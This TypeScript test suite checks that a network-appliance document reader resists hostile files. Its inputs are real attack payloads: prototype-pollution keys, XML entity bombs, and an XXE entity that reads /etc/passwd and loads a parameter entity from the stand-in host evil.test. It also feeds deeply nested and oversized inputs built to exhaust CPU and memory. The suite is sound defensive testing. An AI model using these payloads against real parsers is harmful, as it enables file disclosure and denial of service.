/** Files that are made to hurt: keys that reach into prototypes, bombs of XML, cells as long as a book. */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import type { Appliance } from '../../src/core/appliance/document/appliance-types.ts';
import { exampleVega01 } from '../../src/core/appliance/example/vega01.ts';
import { diffAppliances } from '../../src/core/appliance/merge/diff.ts';
import { mergeAppliances } from '../../src/core/appliance/merge/merge.ts';
import { liveFindings } from '../../src/core/audit/run/live-checks.ts';
import { readAppliance } from '../../src/core/formats/read/read.ts';
import { writeJson } from '../../src/core/formats/table/write.ts';

const files = suite('hostile files');
const keys = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

/** Properties that every object would have if one of the keys had got through. */
const polluted = () =>
  ['owned', ...keys.slice(1)].filter((key) => {
    const value =
      (Object.create(null, {}) as Record<string, unknown>)[key] ?? ({} as Record<string, unknown>)[key];
    return key === 'owned' ? value !== undefined : typeof value !== 'function' && key !== 'prototype';
  });

/** The document's JSON with `"key": {"owned": true}` as the first entry of every object in it. */
const withKey = (json: string, key: string) =>
  json.replace(
    /\{(?=\s*")/g,
    () => `{${JSON.stringify(key)}:{"owned":true,"constructor":{"prototype":{"owned":true}}},`,
  );

const read = (text: string, name = 'x.json') => {
  const result = readAppliance({ name, text });
  return result.ok ? result.appliance : result.partial?.appliance;
};

files(
  'keys of prototypes at any depth of a JSON document are data or nothing, and never reach an object',
  () => {
    const json = writeJson(exampleVega01());
    for (const key of keys) {
      const hostile = withKey(json, key);
      assert.ok(hostile.split(`"${key}"`).length > 100, 'the key stands in every object');
      const appliance = read(hostile);
      assert.equal(polluted(), [], key);
      if (!appliance) continue;
      assert.is(appliance.endpoints.length, exampleVega01().endpoints.length, key);
      assert.is(Object.getPrototypeOf(appliance), Object.prototype, key);
      for (const endpoint of appliance.endpoints)
        assert.is(Object.getPrototypeOf(endpoint), Object.prototype);
      liveFindings(appliance);
      diffAppliances(exampleVega01(), appliance);
      mergeAppliances(exampleVega01(), appliance, appliance);
      writeJson(appliance);
      assert.equal(polluted(), [], key);
    }
  },
);

files('records whose ids and names are keys of prototypes are kept apart and found', () => {
  const base = exampleVega01();
  const [first, second, ...rest] = base.endpoints;
  assert.ok(first && second);
  const named: Appliance = {
    ...base,
    endpoints: [
      { ...first, id: '__proto__', hostname: '__proto__' },
      { ...second, id: 'constructor', hostname: 'constructor' },
      ...rest,
    ],
  };
  const back = read(writeJson(named));
  assert.ok(back);
  assert.equal(
    back.endpoints.slice(0, 2).map(({ id, hostname }) => [id, hostname]),
    [
      ['__proto__', '__proto__'],
      ['constructor', 'constructor'],
    ],
  );
  assert.ok(diffAppliances(base, named).length > 0);
  assert.equal(diffAppliances(named, back), []);
  liveFindings(back);
  const csv = `hostname,address,machine,network,__proto__,constructor\n${keys.map((key, i) => `${key},10.0.0.${i + 1},${key},${key},${key},${key}`).join('\n')}\n`;
  assert.is(read(csv, 'x.csv')?.endpoints.length, keys.length);
  assert.equal(polluted(), []);
});

const bombs: readonly (readonly [name: string, text: string])[] = [
  [
    'a billion laughs',
    `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, i) => `<!ENTITY b${i} "${`&${i === 0 ? 'a' : `b${i - 1}`};`.repeat(10)}">`).join('')}]><engineeredSystem>&b29;</engineeredSystem>`,
  ],
  [
    'an entity that is its own',
    '<!DOCTYPE e [<!ENTITY a "&b;"><!ENTITY b "&a;">]><engineeredSystem>&a;</engineeredSystem>',
  ],
  [
    'quadratic blow-up',
    `<!DOCTYPE e [<!ENTITY a "${'x'.repeat(50_000)}">]><engineeredSystem>${'&a;'.repeat(50_000)}</engineeredSystem>`,
  ],
  [
    'a file and an address from outside',
    '<!DOCTYPE e [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY % b SYSTEM "http://evil.test/x"> %b;]><engineeredSystem><name>&a;</name></engineeredSystem>',
  ],
  ['100,000 levels', `${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`],
  [
    '100,000 attributes',
    `<engineeredSystem ${Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(' ')}/>`,
  ],
  ['a comment that never ends', `<engineeredSystem><!--${'-'.repeat(500_000)}`],
  ['100,000 levels of JSON', `${'['.repeat(100_000)}${']'.repeat(100_000)}`],
  ['100,000 objects in each other', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`],
];

const cpuOf = (act: () => unknown): number => {
  const before = process.cpuUsage();
  act();
  const { user, system } = process.cpuUsage(before);
  return (user + system) / 1000;
};

for (const [name, text] of bombs) {
  files(`refused or read, soon and in little room: ${name}`, () => {
    const before = process.memoryUsage().heapUsed;
    let grown = 0;
    const ms = cpuOf(() => {
      const result = readAppliance({ name: text.startsWith('<') ? 'x.xml' : 'x.json', text });
      grown = process.memoryUsage().heapUsed - before;
      assert.not.match(JSON.stringify(result), /root:x:0|(ha){100}|x{50001}/);
      if (!result.ok) assert.ok((result.problems[0]?.message.length ?? 0) < 500, 'a refusal is a sentence');
    });
    assert.ok(ms < 3000, `${ms} ms`);
    assert.ok(grown < 400_000_000, `${grown} bytes`);
  });
}

files('an address of ten million characters in a document is refused at once, in a sentence', () => {
  const [first, ...rest] = exampleVega01().endpoints;
  assert.ok(first);
  const text = writeJson({
    ...exampleVega01(),
    endpoints: [{ ...first, address: '1'.repeat(10_000_000) }, ...rest],
  });
  const ms = cpuOf(() => {
    const result = readAppliance({ name: 'x.json', text });
    const [problem] = result.ok ? [] : result.problems;
    assert.match(problem?.message ?? '', /^Line \d+: endpoints\[0\]\.address has 10,000,000 characters$/);
    assert.is(problem?.fix, 'Shorten it to at most 64 characters.');
  });
  assert.ok(ms < 3000, `${ms} ms`);
});

files('a cell, a word or a line as long as a book costs no more than a book of short ones', () => {
  const length = 40_000;
  for (const pump of ['0', '-', '.', 'a.', 'a-1', ' ', '\t', '"']) {
    const body = pump.repeat(length / pump.length);
    for (const long of [body, `a${body}~`]) {
      for (const text of [
        `hostname,address,machine,network,notes\n${long},10.0.0.1,${long},${long},${long}\n`,
        `hostname,address,subnet,gateway,vlan\na,${long},${long},${long},${long}\n`,
        `10.0.0.1 ${long} ${long} # ${long}\n`,
        `10.0.0.1 dev ${long}\n`,
        `Nmap scan report for ${long}\n`,
        JSON.stringify({ ...exampleVega01(), name: long }),
      ]) {
        const ms = cpuOf(() => {
          const appliance = read(text, '');
          if (appliance) liveFindings(appliance);
        });
        assert.ok(ms < 1500, `${ms} ms for ${JSON.stringify(text.slice(0, 60))}`);
      }
    }
  }
});

files.run();
